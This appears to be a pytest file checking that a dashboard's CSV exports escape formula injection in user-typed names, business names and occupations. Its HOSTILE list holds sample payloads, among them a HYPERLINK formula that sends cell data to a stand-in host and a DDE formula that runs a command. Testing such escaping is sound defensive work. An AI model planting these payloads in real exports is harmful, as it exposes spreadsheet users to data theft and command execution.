"""CSV / formula injection (issue 14, finding 4): text a person typed (a name, a business name, an
occupation) that starts like a formula reaches a spreadsheet as text, in every CSV the dashboard
writes; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest
from starlette.testclient import TestClient

from bot.dashboard.csvfile import FORMULA_START, csv_text, safe_cell
from bot.storage.models import Application, Business
from bot.storage.repository import Repository
from tests.dashboard import seed
from tests.dashboard.conftest import csrf_of, login

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.fixture()
def client(dashboard_app):
    with TestClient(dashboard_app, base_url="http://127.0.0.1") as test_client:
        yield test_client


def rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text)))


def test_every_formula_start_is_neutralised_and_numbers_are_left_alone():
    for start in FORMULA_START:
        assert safe_cell(start + "x") == "'" + start + "x"
    assert safe_cell("Siti") == "Siti" and safe_cell(-5) == -5 and safe_cell(16800) == 16800
    assert safe_cell("Rp16.800") == "Rp16.800"
    parsed = list(csv.reader(io.StringIO(csv_text(["a", "b"], [HOSTILE[:2], ["x,y", 'say "hi"']]))))
    assert parsed[1] == ["'" + HOSTILE[0], "'" + HOSTILE[1]] and parsed[2] == ["x,y", 'say "hi"']


def test_the_applications_export_neutralises_names_businesses_and_occupations(client, staff, database, vault):
    for n, text in enumerate(HOSTILE, start=1):
        app_id = seed.application(database, vault, name=f"{text} Aminah", occupation=text[:60], number=n,
                                  who=f"w{n}")
        with database.transaction() as session:
            owner = Repository(session).user("test", f"owner{n}", f"owner{n}")
            business = Business(owner_id=owner.id, name=text, sector="dagang", workers=2, size="mikro",
                                invite_code=f"KODE{n}")
            session.add(business)
            session.flush()
            session.get(Application, app_id).business_id = business.id
    login(client, "ani")
    masked = rows(client.get("/applications/export.csv"))
    full = rows(client.post("/applications/export-full", data={"csrf": csrf_of(client), "confirm": "1"}))
    for table in (masked, full):
        header, body = table[0], table[1:]
        assert len(body) == len(HOSTILE)
        for row in body:
            cells = dict(zip(header, row))
            for column in ("occupation", "business", "name"):
                assert cells[column].startswith("'"), (column, cells[column])
            assert cells["income"] == "2500000" and cells["monthly_amount"] == "16800"
    assert {row[full[0].index("name")] for row in full[1:]} == {"'" + t + " Aminah" for t in HOSTILE}


def test_the_insights_csv_neutralises_occupations(client, staff, database, vault):
    seed.application(database, vault, occupation="=1+2")
    login(client, "rudi")
    table = rows(client.get("/insights/occupations.csv"))
    assert ["'=1+2", "1"] in table[1:]
